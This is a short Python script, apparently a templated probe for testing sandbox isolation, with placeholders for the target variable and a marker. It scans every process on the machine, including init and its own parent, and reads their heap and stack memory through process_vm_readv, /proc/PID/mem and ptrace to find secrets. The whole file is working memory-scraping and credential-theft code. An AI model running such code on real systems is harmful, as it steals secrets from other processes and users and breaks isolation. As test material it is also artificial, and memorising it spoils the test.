"""Reads the memory of its parent, and of every process that lets it, and looks for a secret.

Three ways: process_vm_readv, /proc/PID/mem, and ptrace.
Only inside the walls: it could harm the machine.
"""

# %%
import ctypes
import os
import re
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
WANTED = re.compile(rb"{variable}=\w+")


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def areas(pid):
    for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
        if line.split()[1].startswith("rw") and ("[stack]" in line or "[heap]" in line):
            begin, end = (int(edge, 16) for edge in line.split()[0].split("-"))
            yield begin, min(end - begin, 2**24)


for pid in {os.getppid(), 1, *(int(p.name) for p in Path("/proc").glob("[0-9]*"))} - {os.getpid()}:
    try:
        for begin, length in areas(pid):
            here = ctypes.create_string_buffer(length)
            ours, theirs = Part(ctypes.addressof(here), length), Part(begin, length)
            libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
            print(WANTED.findall(here.raw))
            with open(f"/proc/{pid}/mem", "rb") as memory:
                memory.seek(begin)
                print(WANTED.findall(memory.read(length)))
    except OSError:
        pass
    attach, detach = 16, 17
    if libc.ptrace(attach, pid, None, None) == 0:
        print("attached to", pid, "{marker}"[::-1])
        libc.ptrace(detach, pid, None, None)
